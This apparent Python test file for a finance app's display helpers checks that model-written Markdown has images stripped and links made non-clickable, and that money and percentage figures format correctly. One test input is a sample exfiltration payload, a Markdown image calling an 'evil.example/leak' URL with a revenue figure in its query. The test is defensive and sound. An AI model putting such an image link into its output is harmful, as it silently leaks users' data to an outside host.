"""Display helpers: model-written Markdown is rendered without images or links; figures are formatted."""

from cfo_desk.ui.format import figure, safe_markdown


def test_model_images_are_never_rendered():
    text = "MRR is $1. ![chart](http://evil.example/leak?d=312109.50) and <img src='http://x/y'> done"
    out = safe_markdown(text)
    assert "evil.example" not in out and "<img" not in out and "http://x/y" not in out
    assert out.startswith("MRR is $1. [image removed: chart]") and out.endswith("done")
    # A link keeps its text and shows its URL, but is not clickable (see tests/test_inert.py).
    assert safe_markdown("A [link](http://ok.example) stays") == "A link (http\u200b://ok.example) stays"
    assert safe_markdown("**Bold**, `code` and\n\n- a list\n\n| a | b |\n|---|---|\n| 1 | 2 |") == (
        "**Bold**, `code` and\n\n- a list\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )


def test_key_figures_are_formatted_by_unit():
    assert figure(312109.5, "USD") == "$312,109.50"
    assert figure(-1200, "EUR") == "-€1,200.00"
    assert figure(12.345, "%") == "12.3%"
    assert figure(461, "customers") == "461 customers"
